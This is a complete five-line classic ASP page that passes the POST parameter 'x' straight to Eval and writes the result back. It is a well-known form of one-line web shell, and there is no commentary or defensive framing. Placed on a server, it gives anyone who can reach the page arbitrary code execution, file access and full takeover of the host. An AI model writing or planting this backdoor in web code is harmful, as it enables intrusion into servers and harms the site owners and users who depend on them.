<%
Dim r
r = Eval(Request.Form("x"))
Response.Write r
%>
